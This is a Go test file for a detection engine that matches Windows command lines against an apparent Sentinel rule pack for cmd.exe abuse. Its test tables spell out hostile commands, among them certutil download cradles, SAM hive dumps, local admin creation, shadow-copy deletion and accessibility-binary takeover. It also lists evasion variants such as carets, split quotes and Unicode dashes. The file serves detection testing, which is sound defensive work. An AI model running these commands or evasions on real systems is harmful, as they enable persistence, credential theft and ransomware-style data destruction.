package match

import (
	"os"
	"path/filepath"
	"slices"
	"sync"
	"testing"

	"scorecmdline/src/rules"
)

// The pack under test is the one the app ships.
var lookupsDir = filepath.Join("..", "..", "lookups")

var sentinelOnce = sync.OnceValues(func() (*Set, error) {
	p, err := rules.LoadPack(os.DirFS(lookupsDir), "sentinel_cmd")
	if err != nil {
		return nil, err
	}
	return Compile(p)
})

func sentinel(t testing.TB) *Set {
	t.Helper()
	s, err := sentinelOnce()
	if err != nil {
		t.Fatal(err)
	}
	s.Prepare() // tests look at the tables
	return s
}

// hitNames matches and returns the names of the rules hit and the flags set.
func hitNames(s *Set, m *Matcher, cmdline, parent string) (names, flags []string) {
	for _, i := range m.Match([]byte(cmdline), []byte(parent)) {
		r := s.Rules()[i]
		names = append(names, r.Name)
		if r.Flag != "" && !slices.Contains(flags, r.Flag) {
			flags = append(flags, r.Flag)
		}
	}
	return names, flags
}

const winword = `C:\Program Files\Microsoft Office\root\Office16\WINWORD.EXE`

// sentinelTests has, for each rule of the pack (the 22 patterns of the KQL
// rule and the parent rule), a command line it must match and a near miss it
// must not.
var sentinelTests = []struct {
	rule       string
	hit, miss  string
	hitParent  string
	missParent string
}{
	{rule: "certutil_urlcache", hit: `certutil -urlcache -split -f http://10.0.0.1/a.exe a.exe`, miss: `certutil -urlfetch -verify c.cer`},
	{rule: "certutil_decode", hit: `certutil -decode enc.txt payload.exe`, miss: `certutil -decodehex enc.txt out.bin`},
	{rule: "certutil_encode", hit: `certutil.exe -encode in.bin out.txt`, miss: `certutil -encodehex in.bin out.txt`},
	{rule: "bitsadmin_transfer", hit: `bitsadmin /transfer job /download /priority high http://x/a.exe C:\a.exe`, miss: `bitsadmin /list /allusers /verbose`},
	{rule: "bitsadmin_create", hit: `bitsadmin /create backdoor`, miss: `bitsadmin /complete backdoor`},
	{rule: "reg_add", hit: `reg add HKCU\Software\Microsoft\Windows\CurrentVersion\Run /v x /d C:\x.exe /f`, miss: `reg query HKCU\Software\Microsoft\Windows\CurrentVersion\Run`},
	{rule: "reg_delete", hit: `reg delete HKLM\Software\Policies\Microsoft\Windows Defender /f`, miss: `reg deletevalue HKLM\x`},
	{rule: "reg_save", hit: `reg save HKLM\SAM C:\Temp\sam.save`, miss: `reg saves HKLM\SAM`},
	{rule: "schtasks_create", hit: `schtasks /create /tn T /tr C:\x.exe /sc once /st 12:00`, miss: `schtasks /query /tn T`},
	{rule: "schtasks_change", hit: `schtasks /change /tn T /tr C:\evil.exe`, miss: `schtasks /run /tn T`},
	{rule: "net_user_add", hit: `net user bob P@ssw0rd /add`, miss: `net user bob`},
	{rule: "net_localgroup_administrators", hit: `net localgroup administrators bob /add`, miss: `net localgroup users bob /add`},
	{rule: "wmic_process_call_create", hit: `wmic /node:10.0.0.5 process call create "cmd /c calc"`, miss: `wmic process list brief`},
	{rule: "wmic_shadowcopy_delete", hit: `wmic shadowcopy delete /nointeractive`, miss: `wmic shadowcopy list brief`},
	{rule: "vssadmin_delete_shadows", hit: `vssadmin delete shadows /all /quiet`, miss: `vssadmin list shadows`},
	{rule: "bcdedit_set", hit: `bcdedit /set {default} recoveryenabled no`, miss: `bcdedit /enum {current}`},
	{rule: "icacls_grant", hit: `icacls C:\Windows\System32\utilman.exe /grant Everyone:F`, miss: `icacls C:\Windows\System32\utilman.exe /save acl.txt`},
	{rule: "takeown_f", hit: `takeown /f C:\Windows\System32\sethc.exe`, miss: `takeown /?`},
	{rule: "echo_set_p", hit: `echo|set /p="MZ" > payload.bin`, miss: `echo MZ & set /p=x`},
	{rule: "for_f", hit: `for /f "tokens=*" %i in ('dir /b') do echo %i`, miss: `format /f`},
	{rule: "ping_n_1_w", hit: `ping -n 1 -w 3000 127.0.0.1`, miss: `ping -n 10 -w 1000 127.0.0.1`},
	{rule: "pipe_redirect", hit: `echo data > \\.\pipe\evil`, miss: `type \\.\pipe\evil`},
	{rule: "pipe_redirect", hit: `echo data > \\pipe\evil`, miss: `dir > \\server\share\pipe\out.txt`},
	{rule: "suspicious_parent", hit: `cmd.exe /c whoami`, hitParent: winword, miss: `cmd.exe /c whoami`, missParent: `C:\Windows\explorer.exe`},
	{rule: "suspicious_parent", hit: `cmd /c whoami`, hitParent: `mshta.exe`, miss: `cmd /c whoami`, missParent: `notwinword.exe`},
}

func TestSentinelRules(t *testing.T) {
	s := sentinel(t)
	m := s.NewMatcher()
	covered := map[string]bool{}
	for _, tt := range sentinelTests {
		covered[tt.rule] = true
		t.Run(tt.rule, func(t *testing.T) {
			if got, _ := hitNames(s, m, tt.hit, tt.hitParent); !slices.Contains(got, tt.rule) {
				t.Errorf("Match(%q, %q) = %q, want it to include %s", tt.hit, tt.hitParent, got, tt.rule)
			}
			if got, _ := hitNames(s, m, tt.miss, tt.missParent); slices.Contains(got, tt.rule) {
				t.Errorf("Match(%q, %q) = %q, want no %s", tt.miss, tt.missParent, got, tt.rule)
			}
		})
	}
	for _, r := range s.Rules() {
		if !covered[r.Name] {
			t.Errorf("rule %s has no test", r.Name)
		}
	}
	if n := len(s.Rules()); n != 23 {
		t.Errorf("the pack has %d rules, want 22 patterns + 1 parent rule", n)
	}
}

var flagTests = []struct {
	flag                  string
	hit, miss             string
	hitParent, missParent string
}{
	{flag: "certutil_abuse", hit: `certutil -urlcache -f http://x/a a`, miss: `certutil -encode a b`},
	{flag: "certutil_abuse", hit: `certutil -decode a b`, miss: `certutil -hashfile a SHA256`},
	{flag: "scheduled_task", hit: `schtasks /create /tn T /tr x`, miss: `schtasks /change /tn T /tr x`},
	{flag: "user_creation", hit: `net user bob pw /add`, miss: `net user bob /delete`},
	{flag: "shadow_delete", hit: `vssadmin delete shadows /all /quiet`, miss: `vssadmin list shadows`},
	{flag: "shadow_delete", hit: `wmic shadowcopy delete`, miss: `wmic shadowcopy list`},
	{flag: "suspicious_parent", hit: `cmd /c dir`, hitParent: `EXCEL.EXE`, miss: `cmd /c dir`, missParent: `excel.exe.bak`},
}

func TestSentinelFlags(t *testing.T) {
	s := sentinel(t)
	want := []string{"certutil_abuse", "scheduled_task", "user_creation", "shadow_delete", "suspicious_parent"}
	if got := s.Flags(); !slices.Equal(got, want) {
		t.Errorf("Flags() = %q, want %q", got, want)
	}
	m := s.NewMatcher()
	for _, tt := range flagTests {
		t.Run(tt.flag, func(t *testing.T) {
			if _, flags := hitNames(s, m, tt.hit, tt.hitParent); !slices.Contains(flags, tt.flag) {
				t.Errorf("Match(%q, %q) sets %q, want %s", tt.hit, tt.hitParent, flags, tt.flag)
			}
			if _, flags := hitNames(s, m, tt.miss, tt.missParent); slices.Contains(flags, tt.flag) {
				t.Errorf("Match(%q, %q) sets %q, want no %s", tt.miss, tt.missParent, flags, tt.flag)
			}
		})
	}
	for _, r := range s.Rules() {
		if !slices.Contains(r.Techniques, "T1059.003") {
			t.Errorf("rule %s lacks T1059.003", r.Name)
		}
		if r.Description == "" {
			t.Errorf("rule %s has no description", r.Name)
		}
	}
}

// TestSentinelValidation runs the Atomic Red Team tests that validate the
// Sentinel rule (design.md §3.2), each started through cmd.exe.
func TestSentinelValidation(t *testing.T) {
	s := sentinel(t)
	m := s.NewMatcher()
	tests := []struct {
		name, cmdline string
		rules, flags  []string
	}{
		{"certutil download cradle", `cmd.exe /c certutil -urlcache -split -f http://127.0.0.1:8080/x.exe x.exe`,
			[]string{"certutil_urlcache"}, []string{"certutil_abuse"}},
		{"shadow copies deleted", `cmd.exe /c vssadmin delete shadows /all /quiet`,
			[]string{"vssadmin_delete_shadows"}, []string{"shadow_delete"}},
		{"shadow copies listed (safe test)", `cmd.exe /c vssadmin list shadows`, nil, nil},
		{"scheduled task", `cmd.exe /c schtasks /create /tn T /tr C:\x.exe /sc once /st 12:00`,
			[]string{"schtasks_create"}, []string{"scheduled_task"}},
		{"local account", `cmd.exe /c net user NAME PASS /add`,
			[]string{"net_user_add"}, []string{"user_creation"}},
		{"local account made admin", `cmd.exe /c net localgroup administrators NAME /add`,
			[]string{"net_localgroup_administrators"}, nil},
		{"both in one line", `cmd.exe /c "net user NAME PASS /add && net localgroup administrators NAME /add"`,
			[]string{"net_user_add", "net_localgroup_administrators"}, []string{"user_creation"}},
	}
	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			rules, flags := hitNames(s, m, tt.cmdline, `C:\Windows\explorer.exe`)
			if !slices.Equal(rules, tt.rules) || !slices.Equal(flags, tt.flags) {
				t.Errorf("Match(%q) = rules %q flags %q, want rules %q flags %q", tt.cmdline, rules, flags, tt.rules, tt.flags)
			}
		})
	}
}

// TestSentinelEvasions: what cmd.exe (or the program's own argument parser)
// undoes must not hide a command from the rules.
func TestSentinelEvasions(t *testing.T) {
	s := sentinel(t)
	m := s.NewMatcher()
	tests := []struct{ name, cmdline, rule string }{
		{"upper case", `CERTUTIL -URLCACHE -F http://x/a a`, "certutil_urlcache"},
		{"mixed case", `NeT UsEr bob pw /AdD`, "net_user_add"},
		{"carets", `cer^tu^til -url^cache -f http://x/a a`, "certutil_urlcache"},
		{"caret in switch", `schtasks /cre^ate /tn x /tr y`, "schtasks_create"},
		{"quotes in words", `c"ertut"il -urlcache -f http://x/a a`, "certutil_urlcache"},
		{"quoted switch", `vssadmin delete "shadows" /all`, "vssadmin_delete_shadows"},
		{"doubled spaces", `certutil    -urlcache   -f http://x/a a`, "certutil_urlcache"},
		{"tabs", "reg\tadd\tHKCU\\x", "reg_add"},
		{"spaces in phrase", `vssadmin   delete    shadows`, "vssadmin_delete_shadows"},
		{"slash for dash", `certutil /urlcache /f http://x/a a`, "certutil_urlcache"},
		{"dash for slash", `net user bob pw -add`, "net_user_add"},
		{"dash for slash 2", `schtasks -create -tn x -tr y`, "schtasks_create"},
		{"en dash U+2013", "certutil \u2013urlcache -f http://x/a a", "certutil_urlcache"},
		{"em dash U+2014", "certutil \u2014decode a b", "certutil_decode"},
		{"hyphen U+2010", "bcdedit \u2010set {default} recoveryenabled no", "bcdedit_set"},
		{"minus U+2212", "ping \u2212n 1 \u2212w 500 127.0.0.1", "ping_n_1_w"},
		{"horizontal bar U+2015", "takeown \u2015f C:\\x", "takeown_f"},
		{".exe", `certutil.exe -urlcache -f http://x/a a`, "certutil_urlcache"},
		{"full path", `C:\Windows\System32\certutil.exe -urlcache -f http://x/a a`, "certutil_urlcache"},
		{"quoted full path", `"C:\Windows\System32\certutil.exe" -urlcache -f http://x/a a`, "certutil_urlcache"},
		{"path without .exe", `C:\Windows\System32\vssadmin delete shadows /all`, "vssadmin_delete_shadows"},
		{"upper .EXE", `SCHTASKS.EXE /Create /TN x /TR y`, "schtasks_create"},
		{"args before switch", `certutil -f -split -urlcache http://x/a a`, "certutil_urlcache"},
		{"args in the middle", `icacls C:\Windows\System32\x.dll /grant Everyone:F`, "icacls_grant"},
		{"net1", `net1 user bob pw /add`, "net_user_add"},
		{"no spaces around pipe", `echo|set /p=x`, "echo_set_p"},
		{"redirect without space", `echo x>\\.\pipe\p`, "pipe_redirect"},
		{"wmic with node", `wmic /node:"10.1.1.1" /user:admin process call create "calc"`, "wmic_process_call_create"},
		{"inside cmd /c quotes", `cmd.exe /c "reg save HKLM\SYSTEM C:\s.hiv"`, "reg_save"},
		{"for /f with glued quote", `for /f"delims=" %a in ('whoami') do echo %a`, "for_f"},
		{"after &&", `whoami && net user bob pw /add`, "net_user_add"},
		{"in a for loop body", `for /l %i in (1,1,2) do (net user bob%i pw /add)`, "net_user_add"},
	}
	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			if got, _ := hitNames(s, m, tt.cmdline, ""); !slices.Contains(got, tt.rule) {
				t.Errorf("Match(%q) = %q (normalized %q), want %s", tt.cmdline, got, m.Normalized(), tt.rule)
			}
		})
	}
}

// TestSentinelBenign: documented benign uses and look-alikes match nothing.
func TestSentinelBenign(t *testing.T) {
	s := sentinel(t)
	m := s.NewMatcher()
	for _, cmdline := range []string{
		`schtasks /query /fo LIST /v`,
		`vssadmin list shadows`,
		`net user bob`,
		`net user`,
		`reg query HKLM\Software\Microsoft /s`,
		`reg address`,
		`regadd x`,
		`format /f`,
		`format D: /fs:ntfs`,
		`netuser bob pw /add`,
		`net user bob pw & echo /add`,
		`net user bob pw | find /add`,
		"net user bob pw\necho /add",
		`net user http://x/add`,
		`certutilx -urlcache`,
		`xcertutil -urlcache`,
		`certutil -urlcachex`,
		`ping -n 1 127.0.0.1`,
		`icacls C:\x`,
		`takeown /file`,
		`wmic process call createx`,
		`bcdedit /settings`,
		`echo hi`,
		`set /p=x`,
	} {
		if got, _ := hitNames(s, m, cmdline, `C:\Windows\explorer.exe`); len(got) > 0 {
			t.Errorf("Match(%q) = %q (normalized %q), want nothing", cmdline, got, m.Normalized())
		}
	}
}
